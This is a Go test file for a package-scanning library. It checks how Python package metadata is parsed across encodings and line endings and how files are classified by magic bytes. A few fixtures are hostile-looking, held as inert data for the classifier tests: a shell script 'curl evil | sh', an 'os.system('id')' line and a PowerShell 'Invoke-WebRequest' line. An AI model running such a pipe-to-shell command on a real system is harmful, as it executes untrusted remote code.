package dataset

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"unicode/utf16"
)

// utf16Bytes encodes s as UTF-16 with a byte-order mark.
func utf16Bytes(s string, bigEndian bool) []byte {
	var b bytes.Buffer
	units := append([]uint16{0xFEFF}, utf16.Encode([]rune(s))...)
	for _, u := range units {
		if bigEndian {
			b.WriteByte(byte(u >> 8))
			b.WriteByte(byte(u))
		} else {
			b.WriteByte(byte(u))
			b.WriteByte(byte(u >> 8))
		}
	}
	return b.Bytes()
}

// TestParseMetadata covers the RFC 822 dialect of PKG-INFO / METADATA.
func TestParseMetadata(t *testing.T) {
	setuptools := "Metadata-Version: 1.1\n" +
		"Name: old\n" +
		"Version: 0.1\n" +
		"Description: Old Package\n" +
		"        |===========\n" +
		"        |\n" +
		"        |    indented code\n" +
		"Classifier: A\n"
	tests := []struct {
		name     string
		in       []byte
		get      map[string]string   // field (any case) -> first value
		all      map[string][]string // field -> every value in order
		body     string
		desc     string
		encoding string
		fields   int // number of header fields, 0: don't check
	}{
		{name: "metadata 2.1 body is the description",
			in: []byte("Metadata-Version: 2.1\nName: new\nVersion: 2.0\nRequires-Dist: a>=1\nRequires-Dist: b; extra == 'x'\n" +
				"Description-Content-Type: text/markdown\n\n# New\n\nBody text.\n\n\n"),
			get:  map[string]string{"name": "new", "NAME": "new", "version": "2.0", "description-content-type": "text/markdown", "Author": ""},
			all:  map[string][]string{"requires-dist": {"a>=1", "b; extra == 'x'"}, "Classifier": nil},
			body: "# New\n\nBody text.", desc: "# New\n\nBody text.", encoding: "utf-8", fields: 6},
		{name: "setuptools continuation with bar",
			in:   []byte(setuptools),
			get:  map[string]string{"description": "Old Package\n===========\n\n    indented code", "classifier": "A"},
			desc: "Old Package\n===========\n\n    indented code", encoding: "utf-8", fields: 5},
		{name: "plain indented continuation",
			in:   []byte("Name: p\nDescription: line one\n   line two\n\tline three\nKeywords: a b\n"),
			get:  map[string]string{"description": "line one\nline two\nline three", "keywords": "a b"},
			desc: "line one\nline two\nline three", encoding: "utf-8", fields: 3},
		{name: "repeated classifiers in order",
			in: []byte("Name: c\nClassifier: Programming Language :: Python :: 3\nclassifier: License :: OSI Approved\n" +
				"CLASSIFIER: Topic :: Security\n"),
			all: map[string][]string{"Classifier": {"Programming Language :: Python :: 3", "License :: OSI Approved", "Topic :: Security"}},
			get: map[string]string{"classifier": "Programming Language :: Python :: 3"}, encoding: "utf-8", fields: 4},
		{name: "description UNKNOWN falls back to the body",
			in:   []byte("Name: u\nDescription: UNKNOWN\n\nreal body\n"),
			get:  map[string]string{"description": "UNKNOWN"},
			body: "real body", desc: "real body", encoding: "utf-8"},
		{name: "no body",
			in:  []byte("Name: nb\nVersion: 1"),
			get: map[string]string{"version": "1"}, body: "", desc: "", encoding: "utf-8", fields: 2},
		{name: "CRLF line endings",
			in:   []byte("Metadata-Version: 2.1\r\nName: crlf\r\nSummary:  spaced  \r\n\r\nbody line 1\r\nbody line 2\r\n"),
			get:  map[string]string{"name": "crlf", "summary": "spaced"},
			body: "body line 1\nbody line 2", desc: "body line 1\nbody line 2", encoding: "utf-8", fields: 3},
		{name: "old Mac CR line endings",
			in:  []byte("Name: cr\rVersion: 3\r"),
			get: map[string]string{"name": "cr", "version": "3"}, encoding: "utf-8", fields: 2},
		{name: "UTF-8 with BOM",
			in:  []byte("\xef\xbb\xbfMetadata-Version: 2.1\nName: bom\nAuthor: Zoë\n"),
			get: map[string]string{"metadata-version": "2.1", "name": "bom", "author": "Zoë"}, encoding: "utf-8-bom", fields: 3},
		{name: "UTF-16 LE with BOM",
			in:  utf16Bytes("Metadata-Version: 1.0\r\nName: le\r\nAuthor: Jürgen 😀\r\n\r\nbody", false),
			get: map[string]string{"name": "le", "author": "Jürgen 😀"}, body: "body", desc: "body", encoding: "utf-16le", fields: 3},
		{name: "UTF-16 BE with BOM",
			in:  utf16Bytes("Name: be\nSummary: ünïcödé\n", true),
			get: map[string]string{"name": "be", "summary": "ünïcödé"}, encoding: "utf-16be", fields: 2},
		{name: "Latin-1",
			in:  []byte("Name: latin\nAuthor: Jos\xe9\nSummary: caf\xe9 cr\xe8me\n"),
			get: map[string]string{"author": "José", "summary": "café crème"}, encoding: "latin-1", fields: 3},
		{name: "leading blank lines and stray continuation",
			in:  []byte("\n\n  stray\nName: lead\n"),
			get: map[string]string{"name": "lead"}, encoding: "utf-8", fields: 1},
		{name: "stray line ends the headers",
			in:   []byte("Name: s\nthis is not a header\nVersion: 9\n"),
			get:  map[string]string{"name": "s", "version": ""},
			body: "this is not a header\nVersion: 9", desc: "this is not a header\nVersion: 9", encoding: "utf-8", fields: 1},
		{name: "empty value and colons in value",
			in:  []byte("Name: colon\nHome-page: https://example.com:8080/x\nLicense:\n"),
			get: map[string]string{"home-page": "https://example.com:8080/x", "license": ""}, encoding: "utf-8", fields: 3},
		{name: "first of a repeated field wins for Get",
			in:  []byte("Name: first\nName: second\n"),
			get: map[string]string{"name": "first"}, all: map[string][]string{"name": {"first", "second"}}, encoding: "utf-8", fields: 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := ParseMetadata(tt.in)
			if err != nil {
				t.Fatalf("ParseMetadata: %v", err)
			}
			for k, want := range tt.get {
				if got := m.Get(k); got != want {
					t.Errorf("Get(%q) = %q, want %q", k, got, want)
				}
			}
			for k, want := range tt.all {
				if got := m.All(k); !equalStrings(got, want) {
					t.Errorf("All(%q) = %q, want %q", k, got, want)
				}
			}
			if m.Body != tt.body {
				t.Errorf("Body = %q, want %q", m.Body, tt.body)
			}
			if tt.desc != "" || tt.body != "" {
				if got := m.Description(); got != tt.desc {
					t.Errorf("Description() = %q, want %q", got, tt.desc)
				}
			}
			if m.Encoding != tt.encoding {
				t.Errorf("Encoding = %q, want %q", m.Encoding, tt.encoding)
			}
			if tt.fields != 0 && len(m.Fields) != tt.fields {
				t.Errorf("%d fields, want %d: %+v", len(m.Fields), tt.fields, m.Fields)
			}
		})
	}
}

// TestParseMetadataErrors checks the inputs that are not metadata at all.
func TestParseMetadataErrors(t *testing.T) {
	tests := []struct {
		name string
		in   []byte
	}{
		{"empty", nil},
		{"blank lines", []byte("\n\n \r\n\t\n")},
		{"only continuation lines", []byte("  a\n  b\n")},
		{"prose", []byte("This is a README, not metadata.\nName: x\n")},
		{"python source", []byte("import os\nos.system('id')\n")},
		{"field name with space", []byte("Not A Header: x\n")},
		{"empty field name", []byte(": value\n")},
		{"field name too long", []byte(strings.Repeat("N", 65) + ": x\n")},
		{"binary", []byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0}},
		{"UTF-16 without BOM", []byte("N\x00a\x00m\x00e\x00:\x00 \x00x\x00")},
		{"oversized", append([]byte("Name: big\n\n"), bytes.Repeat([]byte("x"), maxMetadataBytes)...)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := ParseMetadata(tt.in)
			if !errors.Is(err, ErrBadMetadata) || m != nil {
				t.Fatalf("ParseMetadata = %+v, %v; want ErrBadMetadata", m, err)
			}
		})
	}
	// Exactly at the size limit is still parsed.
	in := append([]byte("Name: big\n\n"), bytes.Repeat([]byte("x"), maxMetadataBytes-len("Name: big\n\n"))...)
	if m, err := ParseMetadata(in); err != nil || m.Get("name") != "big" || len(m.Body) != maxMetadataBytes-len("Name: big\n\n") {
		t.Errorf("at the limit: %v", err)
	}
}

// TestMetadataNil checks that the accessors are safe on a nil *Metadata, as
// packages without metadata have.
func TestMetadataNil(t *testing.T) {
	var m *Metadata
	if m.Get("name") != "" || m.All("classifier") != nil || m.Description() != "" {
		t.Error("nil Metadata accessors must return zero values")
	}
}

// TestClassify checks that magic numbers beat extensions, except for Python
// source which has no magic.
func TestClassify(t *testing.T) {
	elf := []byte("\x7fELF\x02\x01\x01\x00")
	pe := append([]byte("MZ\x90\x00"), make([]byte, 60)...)
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	zipMagic := []byte("PK\x03\x04\x14\x00")
	tests := []struct {
		name string
		data []byte
		want Kind
	}{
		{"readme.txt", elf, KindNative},
		{"image.png", elf, KindNative},
		{"lib.so", elf, KindNative},
		{"notes.txt", pe, KindNative},
		{"macho.dat", []byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1}, KindNative},
		{"macho32", []byte{0xce, 0xfa, 0xed, 0xfe}, KindNative},
		{"macho-be", []byte{0xfe, 0xed, 0xfa, 0xcf}, KindNative},
		{"fat.bin", []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2}, KindNative},
		{"setup.py", elf, KindPython}, // .py is always Python
		{"gui.PYW", []byte("import tkinter\n"), KindPython},
		{"stubs.pyi", []byte("def f() -> int: ...\n"), KindPython},
		{"__init__.py", nil, KindPython},
		{"mod.pyc", []byte{0x55, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0}, KindBytecode},
		{"run", []byte("#!/bin/sh\ncurl evil | sh\n"), KindScript},
		{"tool.cfg", []byte("#!/usr/bin/env python3\n"), KindScript},
		{"install.sh", []byte("echo hi\n"), KindScript},
		{"x.ps1", []byte("Invoke-WebRequest\n"), KindScript},
		{"inner.txt", zipMagic, KindArchive},
		{"inner.zip", []byte("not really a zip"), KindArchive},
		{"data.bin", []byte{0x1f, 0x8b, 8, 0}, KindArchive},
		{"payload.whl", nil, KindArchive},
		{"deb.dat", []byte("!<arch>\ndebian-binary"), KindArchive},
		{"logo.txt", png, KindImage},
		{"photo", []byte{0xff, 0xd8, 0xff, 0xe0}, KindImage},
		{"anim.dat", []byte("GIF89a\x01\x00"), KindImage},
		{"icon.svg", []byte("<svg/>"), KindImage},
		{"README.md", []byte("# Title\n\nText.\n"), KindText},
		{"LICENSE", []byte("MIT License\n"), KindText},
		{"empty", nil, KindText},
		{"blob", []byte{1, 2, 3, 0, 5}, KindOther},
		{"late-nul.txt", append(bytes.Repeat([]byte("a"), 1024), 0), KindText}, // only the first kB is looked at
		{"MZ.txt", []byte("MZ is a short text"), KindText},                     // "MZ" alone is not PE
		{"MAKEFILE", []byte("MZ"), KindText},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Classify(tt.name, tt.data); got != tt.want {
				t.Errorf("Classify(%q) = %s, want %s", tt.name, got, tt.want)
			}
		})
	}
}

// distutils writes a Description's blank lines as 8 spaces: they continue
// the header, and the fields after it are still headers.
func TestParseMetadataSpaceOnlyContinuation(t *testing.T) {
	m, err := ParseMetadata([]byte("Metadata-Version: 1.0\nName: x\nDescription: first\n        \n        second\nKeywords: a b\nClassifier: License :: OSI Approved :: MIT License\n\nbody\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := m.Get("Description"); got != "first\n\nsecond" {
		t.Errorf("Description = %q", got)
	}
	if m.Get("Keywords") != "a b" || len(m.All("Classifier")) != 1 || m.Body != "body" {
		t.Errorf("fields after the description lost: %+v body %q", m.Fields, m.Body)
	}
}
